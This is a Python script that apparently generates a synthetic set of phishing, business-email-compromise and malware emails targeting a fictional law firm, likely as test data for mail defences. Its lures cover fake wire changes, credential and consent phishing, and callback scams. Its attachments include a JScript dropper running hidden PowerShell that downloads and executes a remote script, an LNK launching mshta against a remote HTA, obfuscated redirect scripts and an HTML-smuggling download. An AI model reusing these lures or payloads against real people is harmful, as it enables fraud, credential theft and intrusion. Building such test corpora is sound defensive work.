# ruff: noqa: E501
"""Phishing, BEC and malware mail aimed at Cedar Point Legal LLP, 2024-2026 techniques."""

from __future__ import annotations

import base64
import hashlib

from b5_common import Att, build, iso_fixed, lnk_bytes, onenote_fixed, pdf_text, qr_png, zip_fixed


def mid(name: str, domain: str) -> str:
    return f"<{hashlib.sha256(('p' + name).encode()).hexdigest()[:20]}@{domain}>"


def p(name: str, frm: str, subject: str, date: str, domain: str, ip: str, text: str | None, html: str | None = None,
      att: list[Att] | None = None, extra: list[tuple[str, str]] | None = None, host: str | None = None,
      sign: bool = False, to: str | None = None) -> None:
    kw = {"to": to} if to else {}
    build("phish", name, frm=frm, subject=subject, date=date, msgid=mid(name, domain), host=host or f"mail.{domain}", ip=ip,
          dkim_domain=domain if sign else None, text=text, html=html, attachments=att, extra=extra, **kw)


def htm_redirect(url: str, brand: str) -> bytes:
    enc = base64.b64encode(url.encode()).decode()
    return (f"<html><head><title>{brand}</title></head><body><p>Loading your message...</p>"
            f"<script>var u=atob('{enc}');window.location.replace(u+'#'+'ZGFuaWVsLm9rYWZvckBjZWRhcnBvaW50LWxlZ2FsLmV4YW1wbGU=');</script></body></html>").encode()


def wire_and_bec() -> None:
    p("p01_title_wire_change.eml", "Karen Whitfield <kwhitfield@meridiantitle-escrow.com>", "RE: 2215 W Fulton - UPDATED Closing Wire Instructions",
      "Fri, 27 Nov 2026 08:12:40 -0600", "meridiantitle-escrow.com", "45.88.97.14",
      "Good morning Daniel,\n\nPlease disregard the wire instructions sent on 11/23. Due to an ongoing audit of our escrow account at BMO, all incoming closing funds for December are being received at our secondary escrow account. Updated instructions attached.\n\n"
      "Kindly confirm once the wire is scheduled so I can notify the seller's side. I'm in closings all morning so email is the best way to reach me today.\n\nThank you,\nKaren Whitfield | Escrow Officer\nMeridian Title & Escrow",
      extra=[("Reply-To", "kwhitfield.escrow@outlook.com"), ("In-Reply-To", "<8d1fa7c3c2e0@meridiantitle.example>")],
      att=[(pdf_text(["MERIDIAN TITLE & ESCROW - UPDATED WIRE INSTRUCTIONS", "File No. MT-26-88142", "Bank: Lead Bank, Kansas City MO", "ABA: 101019644  Account: 220018847713", "Beneficiary: Meridian Title Escrow Services"]), "application", "pdf", "MT-26-88142_Updated_Wire.pdf")])
    p("p02_partner_giftcards.eml", "Rebecca Hale <rebecca.hale.cpl@gmail.com>", "Quick favor", "Wed, 25 Nov 2026 10:47:02 -0800", "gmail.com", "209.85.218.41",
      "Daniel,\n\nAre you at your desk? I need you to pick up some Apple gift cards for client appreciation before Thanksgiving, 10 x $200. I'm in back-to-back meetings and can't take calls. Scratch the back and send me pictures of the codes here. I'll have Thomas reimburse you.\n\nRebecca\nSent from my iPhone",
      host="mail-ej1-f41.google.com", sign=True)
    p("p03_cfo_urgent_invoice.eml", "Thomas Brandt <thomas.brandt@cedarpoint-legai.com>", "Urgent payment - expert witness retainer", "Thu, 26 Nov 2026 07:55:31 -0600", "cedarpoint-legai.com", "193.35.18.201",
      "Daniel,\n\nPlease process a same-day wire of $48,750.00 for the expert retainer on the Northgate matter. The firm changed banks so please use the new account details below, not the ones in Clio.\n\n"
      "Beneficiary: Halvorsen Forensic Consulting LLC\nBank: Evolve Bank & Trust\nRouting: 084106768\nAccount: 9800441187\n\nThis is confidential until the expert is disclosed. Send me the confirmation once done.\n\nThomas Brandt\nChief Financial Officer\nCedar Point Legal LLP",
      extra=[("Reply-To", "thomas.brandt@cedarpoint-legai.com")])
    p("p04_vendor_lookalike_invoice.eml", "Lakeshore Office Systems <billing@lakeshore-officesystems.com>", "Overdue: Invoice 10482 - updated remittance details", "Mon, 23 Nov 2026 15:20:10 -0600", "lakeshore-officesystems.com", "91.215.85.40",
      "Dear Accounts Payable,\n\nOur records show invoice 10482 ($1,284.00) remains unpaid. Please note we have moved our banking to a new provider; checks and ACH to the old account will be returned.\n\n"
      "Please remit by ACH to:\nBank: Bluevine / Coastal Community Bank\nRouting: 125109019\nAccount: 88440193277\n\nKindly send remittance advice to this email.\n\nBest regards,\nTom Kowalski\nLakeshore Office Systems")
    p("p05_payroll_dd_change.eml", "Maria Santos <maria.santos.cpl@outlook.com>", "Direct deposit update", "Tue, 24 Nov 2026 21:03:18 +0000", "outlook.com", "40.92.19.77",
      "Hi Daniel,\n\nI recently changed banks and need to update my direct deposit before the next payroll. Can you make the change in Gusto for me? I can send the new account and routing number. Please let me know what you need.\n\nThanks,\nMaria Santos\nParalegal",
      host="mail-dm6nam12olkn2077.outbound.protection.outlook.com", sign=True)
    p("p06_w2_request.eml", "Thomas Brandt <tbrandt.cfo@cedarpoint-legal.co>", "W-2 copies needed today", "Mon, 16 Nov 2026 09:40:22 -0600", "cedarpoint-legal.co", "185.244.25.9",
      "Daniel,\n\nOur auditors need the 2025 W-2s for all staff and attorneys (PDF format) for a year-end review. Please export them from Gusto and send them to me in one file by end of day. Keep this between us for now.\n\nThanks,\nThomas")
    p("p07_reply_chain_hijack_zip.eml", "Luis Ferreira <luis@ferreiradevelopment.example>", "RE: Fulton closing - signed estoppel certificates", "Wed, 25 Nov 2026 02:11:47 -0600", "ferreiradevelopment.example", "103.251.167.20",
      "Hi,\n\nPlease see the remaining documents for the closing as requested.\n\nhttps://ferreira-docs.s3.us-east-2.amazonaws.com/closing/Estoppel_Unit2_signed.zip\n\nPassword: 2215\n\nRegards\n\n"
      "-----Original Message-----\nFrom: Daniel Okafor <daniel.okafor@cedarpoint-legal.example>\nSent: Monday, November 23, 2026 4:02 PM\nTo: Luis Ferreira\nSubject: Fulton closing - signed estoppel certificates\n\n"
      "Hi Luis, Rebecca asked me to chase the tenant estoppels for the 12/8 closing. Could you send whatever you have? Thanks, Daniel",
      extra=[("In-Reply-To", "<c7a1e9f2b3@cedarpoint-legal.example>"), ("References", "<c7a1e9f2b3@cedarpoint-legal.example>")])
    p("p08_compromised_vendor_invoice.eml", "Alicia Kessler <akessler@kesslervancecpa.example>", "Kessler & Vance - Invoice #KV-2611 for Cedar Point Legal", "Thu, 19 Nov 2026 17:44:09 -0600", "kesslervancecpa.example", "198.51.100.77",
      "Hello,\n\nAlicia Kessler has shared an invoice with you. Please review and process at your earliest convenience.\n\n"
      "View Invoice KV-2611: https://kesslervance-invoice.notion.site/Invoice-KV-2611-8f2c1e9b4d7a4c3e\n\nThank you for your business.\n\nAlicia Kessler, CPA\nKessler & Vance CPA", sign=True)


def legal_lures() -> None:
    p("p09_fake_court_summons.eml", "Circuit Court of Cook County <efiling@cookcountycourt-efile.com>", "Summons and Complaint served - Case No. 2026-L-011482 - Response required within 30 days",
      "Tue, 24 Nov 2026 06:30:15 -0600", "cookcountycourt-efile.com", "62.60.131.18",
      "NOTICE OF ELECTRONIC SERVICE\n\nA complaint has been filed naming Cedar Point Legal LLP as a defendant.\nCase: Whitmore v. Cedar Point Legal LLP\nCase No.: 2026-L-011482\n\nYou must file an appearance within 30 days. Failure to respond may result in a default judgment.\n\n"
      "View the summons and complaint: https://efile-cookcounty.pages.dev/case/2026-L-011482\n\nClerk of the Circuit Court of Cook County")
    p("p10_fake_nef.eml", "ecf_notice@ilnd-uscourts.us", "Activity in Case 1:26-cv-04418 Marlowe Supply Co. v. Tressel Logistics, Inc. Order to Show Cause",
      "Wed, 25 Nov 2026 16:02:33 -0600", "ilnd-uscourts.us", "80.78.22.101",
      "This is an automatic e-mail message generated by the CM/ECF system. Please DO NOT RESPOND to this e-mail.\n\nNotice of Electronic Filing\n\nCase Number: 1:26-cv-04418\nDocument Number: 29\n\n"
      "Docket Text:\nORDER TO SHOW CAUSE why sanctions should not be imposed for failure to comply with the scheduling order. Response due within 3 days.\n\n"
      "Document: https://ecf.ilnd-uscourts.us/doc1/067130482291?caseid=448812&de_seq_num=88\n\nNotice has been electronically mailed to: Rebecca Hale, docketing@cedarpoint-legal.example")
    p("p11_docusign_freehost.eml", "\"Harbor Point Realty via Docusign\" <dse@harborpoint-docs.com>", "Complete with Docusign: Amended Engagement Letter.pdf", "Thu, 26 Nov 2026 11:18:00 -0800", "harborpoint-docs.com", "104.168.44.9", None,
      html="<html><body style='font-family:Helvetica'><div style='background:#1e4ca1;color:#fff;padding:24px;text-align:center'>"
           "<p>Harbor Point Realty sent you a document to review and sign.</p><a href='https://docsign-review-9f2k.web.app/Signing/EmailStart.aspx?a=6f2b9c1e' style='background:#ffc423;color:#000;padding:10px 20px;text-decoration:none'>REVIEW DOCUMENT</a></div>"
           "<p>Jenna Morales<br>Please review the amended letter today.</p><p style='font-size:11px;color:#666'>Do Not Share This Email. This email contains a secure link to Docusign.</p></body></html>")
    p("p12_ediscovery_share.eml", "Relativity Secure Share <share@relativityone-portal.com>", "Production Vol 4 shared with you - Northgate v. Keystone", "Fri, 20 Nov 2026 13:40:00 -0600", "relativityone-portal.com", "5.252.178.33",
      "Priya Nandakumar has shared a production set with you via RelativityOne.\n\nProduction: NORTHGATE_PROD_VOL004 (2,184 documents)\nExpires: 72 hours\n\nAccess production: https://relativityone-portal.com/share/auth?rid=NG-PROD-004&email=daniel.okafor@cedarpoint-legal.example\n\nYou will be asked to sign in with your Microsoft 365 account.")
    p("p13_secure_message_proofpoint.eml", "Proofpoint Encryption <securemail@proofpoint-encrypt.net>", "[Secure] You have a new encrypted message from Meridian Title & Escrow", "Tue, 24 Nov 2026 09:05:41 -0500", "proofpoint-encrypt.net", "141.98.10.62", None,
      html="<html><body><table width='600'><tr><td><b>Proofpoint Encryption</b></td></tr><tr><td>You have received a secure message from <b>kwhitfield@meridiantitle.example</b>.<br>"
           "Subject: Closing Disclosure and Final Wire Instructions<br><br><a href='https://securemail-proofpoint.z13.web.core.windows.net/read.html?msg=88142'>Click here to read the message</a><br><br>"
           "This message will expire in 14 days.</td></tr></table></body></html>")
    p("p14_virtru_lookalike.eml", "Virtru <no-reply@virtru-secure.co>", "Thomas Brandt sent you a secure message", "Mon, 23 Nov 2026 18:10:44 +0000", "virtru-secure.co", "45.137.21.9",
      "Thomas Brandt (tbrandt@cedarpoint-legal.example) has sent you a Virtru secure email.\n\nSubject: Partner distribution schedule - Q4\n\nUnlock message: https://secure.virtru-secure.co/start?msg=b71e9c2f&email=daniel.okafor@cedarpoint-legal.example\n\nSecured by Virtru")


def credential() -> None:
    p("p15_m365_password_expiry.eml", "Microsoft 365 <no-reply@microsoft365-security.com>", "Password expiration notice for daniel.okafor@cedarpoint-legal.example", "Mon, 23 Nov 2026 05:14:00 +0000", "microsoft365-security.com", "194.26.29.14", None,
      html="<html><body style='font-family:Segoe UI'><p>Microsoft 365</p><p>The password for <b>daniel.okafor@cedarpoint-legal.example</b> expires today.</p>"
           "<p>You can keep using your current password by selecting the option below.</p><p><a href='https://login-microsoftonline.cedarpoint-legal.example.auth-session.top/?u=daniel.okafor'>Keep current password</a></p>"
           "<p style='font-size:10px'>Microsoft Corporation, One Microsoft Way, Redmond WA</p></body></html>")
    p("p16_sharefile_aitm.eml", "ShareFile <mail@sharefile-notify.com>", "Kessler & Vance CPA has sent you files", "Wed, 25 Nov 2026 15:33:21 +0000", "sharefile-notify.com", "185.196.9.150",
      "Alicia Kessler of Kessler & Vance CPA has sent you 1 file.\n\n2025_Partner_Tax_Adjustments.pdf (214 KB)\n\nDownload: https://kesslervance-sharefile.com/d-s91a3f7e2c\n\nShareFile - Secure file sharing")
    p("p17_dropbox_aitm.eml", "Dropbox <no-reply@dropbox-shares.net>", "Luis Ferreira shared \"Fulton - Final Settlement Statement\" with you", "Thu, 26 Nov 2026 19:02:10 +0000", "dropbox-shares.net", "92.118.39.88",
      "Luis Ferreira invited you to view the file \"Fulton - Final Settlement Statement.pdf\" on Dropbox.\n\nView file: https://dropbox-shares.net/scl/fi/view?d=fulton-final&login_hint=daniel.okafor%40cedarpoint-legal.example\n\nThe Dropbox team")
    p("p18_punycode_brand.eml", "Chase Business <alerts@xn--chse-fra.com>", "Wire transfer on hold - verification needed", "Fri, 27 Nov 2026 14:02:44 -0500", "xn--chse-fra.com", "87.120.37.40",
      "Cedar Point Legal LLP,\n\nA wire transfer of $18,500.00 from your account ending in 2208 has been placed on hold pending verification.\n\nVerify now: https://www.xn--chse-fra.com/business/wire/verify?ref=WT88142\n\nIf not verified within 24 hours the transfer will be returned to the originator.\n\nChase")
    p("p19_subdomain_trick.eml", "Wells Fargo <security@wf-alerts.info>", "Your Wells Fargo Business Online access has been limited", "Fri, 27 Nov 2026 14:41:50 -0600", "wf-alerts.info", "193.42.33.12",
      "We detected unusual sign-on activity on your Wells Fargo Business Online profile. Access has been limited.\n\nRestore access: https://wellsfargo.com.secure-signon.wf-alerts.info/das/cgi-bin/session.cgi?screenid=SIGNON\n\nWells Fargo Online Security")
    p("p20_open_redirect.eml", "NetDocuments <no-reply@netdocs-notify.com>", "Document shared with you: Tressel - Settlement Proposal (CONFIDENTIAL)", "Tue, 24 Nov 2026 17:20:08 -0600", "netdocs-notify.com", "45.95.169.33",
      "Marcus Lee shared a document with you.\n\nTressel - Settlement Proposal (CONFIDENTIAL).pdf\n\nOpen in NetDocuments: https://www.google.com/url?q=https://nd-vault-share.com/neWeb2/goid.aspx?id%3D4827-1193-9912&sa=D&usg=AOvVaw0x9k2L\n\nThis notification was sent by NetDocuments.")
    p("p21_oauth_consent.eml", "Microsoft Teams <noreply@teams-sharepoint-notify.com>", "Rebecca Hale shared \"Partner Compensation 2027.xlsx\"", "Mon, 16 Nov 2026 13:50:17 +0000", "teams-sharepoint-notify.com", "20.98.144.7",
      "Rebecca Hale shared a file with you.\n\nPartner Compensation 2027.xlsx\n\nOpen: https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4f8e2a1c-9b3d-4e7a-8c6f-2d1b0a9e8f7c&response_type=code&redirect_uri=https%3A%2F%2Fdocviewer-cloud.app%2Fauth&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All%20User.Read&prompt=consent\n\n"
      "You'll need to approve 'DocViewer for Office' to open the file.")
    p("p22_device_code.eml", "Microsoft Teams <teams@cpl-meetings.com>", "Rebecca Hale invited you to a Teams meeting: Year-end bonus review", "Wed, 18 Nov 2026 15:00:00 +0000", "cpl-meetings.com", "146.70.88.12",
      "Rebecca Hale has invited you to a secure Microsoft Teams meeting.\n\nBecause this meeting includes confidential compensation data, you must authenticate your device first:\n\n"
      "1. Go to https://microsoft.com/devicelogin\n2. Enter the code: KQ7R-X4MZ\n3. Sign in with your Cedar Point Legal account\n\nThe code expires in 15 minutes.\n\nMicrosoft Teams")
    p("p23_fake_linkedin.eml", "LinkedIn <messages-noreply@linkedin-mail.co>", "Daniel, you have 3 new messages from recruiters", "Tue, 17 Nov 2026 14:11:33 +0000", "linkedin-mail.co", "77.83.247.16",
      "You have 3 new messages.\n\nSarah Collins, Senior Recruiter at Robert Half Legal: 'Daniel - confidential Director of Operations role at an AmLaw 100 firm, $185k...'\n\nView messages: https://linkedin-mail.co/messaging/thread/2-YjQ4ZmM2?trk=eml\n\nUnsubscribe")


def callback_and_delivery() -> None:
    p("p24_geek_squad.eml", "Geek Squad Billing <billing.gsq.renewals@gmail.com>", "Your subscription has been renewed - Order #GS-88314702", "Fri, 20 Nov 2026 08:10:55 -0800", "gmail.com", "209.85.208.51", None,
      html="<html><body><h2>Geek Squad Total Protection</h2><p>Dear Customer,</p><p>Your annual subscription has been renewed successfully.</p><table border='1'><tr><td>Order</td><td>GS-88314702</td></tr><tr><td>Amount</td><td>$449.99</td></tr><tr><td>Payment</td><td>Auto-debit</td></tr></table>"
           "<p>If you did not authorize this charge, call our billing desk within 24 hours to cancel and get a refund: <b>+1 (808) 555-0132</b></p></body></html>", host="mail-ed1-f51.google.com", sign=True)
    p("p25_paypal_invoice_callback.eml", "PayPal <service@paypal.com>", "You've got a money request from Norton Billing Dept", "Sat, 21 Nov 2026 12:42:10 -0800", "paypal.com", "173.0.84.226",
      "Norton Billing Dept sent you a request for $699.00 USD.\n\nNote from Norton Billing Dept: Your Norton 360 annual plan renewal has been processed. If you did not make this purchase, call our support line immediately at +1 (888) 555-0164 to cancel.\n\n"
      "Pay now: https://www.paypal.com/myaccount/transfer/requests\n\nPayPal", host="mx0.slc.paypal.com", sign=True)
    p("p26_mcafee.eml", "McAfee Security <support@mcafee-renewal-center.com>", "McAfee Total Protection - 4 threats detected, renew now", "Sun, 22 Nov 2026 09:00:00 -0500", "mcafee-renewal-center.com", "185.117.90.4",
      "Your McAfee subscription expired. Your PC is unprotected and 4 threats were found.\n\nRenew today at 85% off: https://mcafee-renewal-center.com/offer?id=cp4471\n\nFor help call 1-844-555-0119.")
    p("p27_amazon_callback.eml", "Amazon.com <order-update@amazon-orderdesk.com>", "Your order of Apple MacBook Pro 16\" has been placed", "Mon, 23 Nov 2026 02:14:29 -0800", "amazon-orderdesk.com", "103.136.43.10",
      "Hello,\n\nThank you for your order #112-9840213-5528341.\n\nApple MacBook Pro 16\" M5 Max  $3,499.00\nShipping to: Kevin R., 1802 Pine St, Houston TX\n\nIf you did not place this order, call Amazon Fraud Department at +1 (877) 555-0181 to cancel.\n\nAmazon.com")
    p("p28_usps_fee.eml", "USPS <info@usps-redelivery.top>", "USPS: Your parcel is on hold - unpaid customs fee", "Tue, 24 Nov 2026 04:40:00 +0000", "usps-redelivery.top", "38.180.92.55",
      "USPS Tracking: 9400 1112 0288 4471 2250 18\n\nYour package could not be delivered due to an incomplete address and an unpaid fee of $1.99. Please update your information within 48 hours or the package will be returned.\n\n"
      "https://usps.redeliver-parcel.top/us/track?id=94001112\n\nUnited States Postal Service")
    p("p29_fedex_fee.eml", "FedEx <noreply@fedex-delivery-notice.com>", "FedEx: Delivery attempt failed - reschedule", "Wed, 25 Nov 2026 07:18:51 -0600", "fedex-delivery-notice.com", "176.113.115.20", None,
      html="<html><body><p><b>FedEx</b></p><p>We attempted to deliver your package (771839209987) but no one was available to sign.</p><p>A redelivery fee of <b>$2.49</b> applies.</p><p><a href='https://bit.ly/3Fdx-rsch'>Schedule redelivery</a></p></body></html>")
    p("p30_hmrc_refund.eml", "HMRC <refunds@hmrc-taxrefund.co.uk>", "You are eligible for a tax refund of 684.20 GBP", "Thu, 19 Nov 2026 09:30:00 +0000", "hmrc-taxrefund.co.uk", "185.225.73.14",
      "HM Revenue & Customs\n\nAfter the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of 684.20 GBP.\n\nSubmit the tax refund request: https://hmrc-taxrefund.co.uk/claim/ref=UK884201\n\nFailure to claim within 5 working days will void the refund.\n\nHM Revenue & Customs")
    p("p31_irs_refund.eml", "IRS Online <irs@irs-gov-refund.com>", "IRS Notice CP12: Adjustment to your 2025 return - refund pending", "Fri, 20 Nov 2026 11:00:00 -0500", "irs-gov-refund.com", "45.141.84.12",
      "Internal Revenue Service\n\nNotice CP12\nWe made changes to your 2025 Form 1065 and you are due a refund of $2,914.00.\nTo receive it by direct deposit, confirm your identity and bank details: https://irs-gov-refund.com/cp12/verify\n\nDepartment of the Treasury")
    p("p32_companies_house.eml", "Companies House <noreply@companieshouse-filing.uk>", "Action required: CEDAR POINT LEGAL (UK) LIMITED - overdue confirmation statement penalty", "Tue, 17 Nov 2026 10:05:00 +0000", "companieshouse-filing.uk", "91.92.246.18",
      "Company number: 14329805\n\nOur records show that the confirmation statement for CEDAR POINT LEGAL (UK) LIMITED is overdue. A late filing penalty of 1,500 GBP has been applied and the company may be struck off.\n\n"
      "Pay the penalty or appeal: https://companieshouse-filing.uk/penalty/14329805\n\nCompanies House, Crown Way, Cardiff")
    p("p33_crypto.eml", "Coinbase <no-reply@coinbase-support-desk.com>", "Withdrawal request: 0.8421 BTC", "Fri, 27 Nov 2026 22:12:00 +0000", "coinbase-support-desk.com", "89.185.85.41",
      "A withdrawal of 0.8421 BTC (~$76,300) to bc1q9h7x2k4m5n8p0r3t6w9y2a4c7e0g3j6l8q1s4 was requested from your account.\n\nIf this was not you, cancel it immediately: https://coinbase-support-desk.com/cancel?case=CB-558102\nOr call support: +1 (855) 555-0140\n\nCoinbase")


def attachments() -> None:
    rc = "https://voicemail-ringcentral.online/vm/listen?u=ZGFuaWVsLm9rYWZvcg"
    p("p34_voicemail_htm.eml", "RingCentral <voicemail@ringcentral-notify.com>", "New Voice Message from (312) 555-0107 - 00:46 sec", "Mon, 23 Nov 2026 11:05:42 -0600", "ringcentral-notify.com", "185.234.216.60",
      "You have a new voice message:\n\nFrom: (312) 555-0107\nLength: 00:46\nTo: Daniel Okafor\n\nOpen the attached message to listen.\n\nThank you for using RingCentral!",
      att=[(htm_redirect(rc, "RingCentral Voicemail"), "text", "html", "VM_Playback_3125550107.htm")])
    p("p35_qr_pdf.eml", "Cedar Point IT Service Desk <it-support@cedarpoint-mfa.com>", "Action required: Re-enroll multi-factor authentication before 11/30", "Wed, 25 Nov 2026 08:00:00 -0600", "cedarpoint-mfa.com", "179.43.180.12",
      "Hello Daniel,\n\nAs part of our year-end security upgrade, all staff must re-enroll MFA by November 30. Please see the attached document and scan the QR code with your phone.\n\nIT Service Desk",
      att=[(pdf_text(["Cedar Point Legal LLP - MFA Re-enrollment", "Scan the QR code with your phone camera", "or open: https://cpl-mfa-enroll.com/m/do", "Deadline: November 30, 2026"], uri="https://cpl-mfa-enroll.com/m/do?e=ZG9rYWZvcg"), "application", "pdf", "MFA_Reenrollment_Daniel_Okafor.pdf")])
    p("p36_qr_image.eml", "Payroll Department <payroll@gusto-hr-docs.com>", "2027 Benefits enrollment - Daniel Okafor", "Thu, 26 Nov 2026 09:12:15 -0600", "gusto-hr-docs.com", "146.0.77.25", None,
      html="<html><body><p>Hi Daniel,</p><p>Your 2027 benefits enrollment window closes Monday. Scan the attached code with your mobile device to review your elections.</p><p>(QR code attached: enrollment_qr.png)</p><p>Human Resources</p></body></html>",
      att=[(qr_png("https://gusto-hr-docs.com/benefits/2027?id=ZG9rYWZvcg"), "image", "png", "enrollment_qr.png")])
    svg = (b"<svg xmlns='http://www.w3.org/2000/svg' width='400' height='200'><text x='20' y='40'>Loading document...</text>"
           b"<script><![CDATA[var a='aHR0cHM6Ly9jcGxlZ2FsLWRvY3MucnUvb2ZmaWNlLz9lPQ==';window.location.href=atob(a)+'ZGFuaWVs';]]></script></svg>")
    p("p37_svg_redirect.eml", "Jenna Morales <jmorales@harborpointrealty.example>", "Remittance advice - Harbor Point Realty", "Fri, 27 Nov 2026 12:02:04 -0800", "harborpointrealty.example", "203.0.113.190",
      "Hi Daniel,\n\nPlease find the remittance advice for the retainer payment attached.\n\nThanks,\nJenna", att=[(svg, "image", "svg+xml", "Remittance_Advice_CPL_112726.svg")])
    js = b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -nop -c \"iwr http://45.9.148.77/s.ps1|iex\"',0);"
    p("p38_zip_js.eml", "Accounts Receivable <ar@tressel-logistics.net>", "Past due statement - Cedar Point Legal - password 8841", "Tue, 24 Nov 2026 14:40:00 -0600", "tressel-logistics.net", "193.233.20.31",
      "Good afternoon,\n\nAttached is your past due statement. The file is password protected for your security.\n\nPassword: 8841\n\nAccounts Receivable",
      att=[(zip_fixed([("Statement_Nov2026.js", js)], password_note=True), "application", "zip", "Statement_Nov2026.zip")])
    p("p39_iso.eml", "Westlaw Billing <billing@thomsonreuters-invoices.com>", "Thomson Reuters invoice 6002841977 - November 2026", "Mon, 16 Nov 2026 10:22:00 -0600", "thomsonreuters-invoices.com", "194.169.175.40",
      "Dear Customer,\n\nPlease find your Westlaw invoice attached. Payment is due upon receipt.\n\nThomson Reuters Billing",
      att=[(iso_fixed("Invoice_6002841977.exe"), "application", "octet-stream", "Invoice_6002841977.img")])
    p("p40_lnk_zip.eml", "Marcus Lee <marcus.lee.esq@proton.me>", "Deposition exhibits - Tressel", "Thu, 19 Nov 2026 22:05:11 +0000", "proton.me", "185.70.42.20",
      "Daniel, exhibits for Monday attached. Marcus",
      att=[(zip_fixed([("Deposition_Exhibits.pdf.lnk", lnk_bytes("C:\\Windows\\System32\\mshta.exe https://exhibit-viewer.com/d.hta"))]), "application", "zip", "Deposition_Exhibits.zip")])
    p("p41_onenote.eml", "Box <noreply@box-notify.net>", "You have a new shared document: Northgate_Production_Index", "Tue, 17 Nov 2026 09:44:30 +0000", "box-notify.net", "31.41.244.12",
      "Priya Nandakumar shared a document with you. Open the attached OneNote file and double-click \"View Document\" to see the production index.",
      att=[(onenote_fixed("View_Document.cmd"), "application", "octet-stream", "Northgate_Production_Index.one")])
    blob = base64.b64encode(b"PK\x03\x04" + hashlib.sha256(b"smuggled").digest() * 40).decode()
    smug = (f"<html><body><p>Preparing your secure document...</p><script>var b='{blob}';var d=atob(b);var u=new Uint8Array(d.length);"
            "for(var i=0;i<d.length;i++)u[i]=d.charCodeAt(i);var f=new Blob([u],{type:'application/octet-stream'});"
            "var a=document.createElement('a');a.href=URL.createObjectURL(f);a.download='Closing_Disclosure_Final.zip';document.body.appendChild(a);a.click();</script></body></html>").encode()
    p("p42_html_smuggling.eml", "Meridian Title & Escrow <closing@meridian-title.co>", "Closing Disclosure - 2215 W Fulton (final)", "Fri, 27 Nov 2026 16:30:00 -0600", "meridian-title.co", "45.61.136.200",
      "Daniel,\n\nThe final Closing Disclosure is attached as a secure document. Open it in your browser to download.\n\nMeridian Title & Escrow",
      att=[(smug, "text", "html", "Closing_Disclosure_Secure.html")])


def write_all() -> None:
    for f in (wire_and_bec, legal_lures, credential, callback_and_delivery, attachments):
        f()
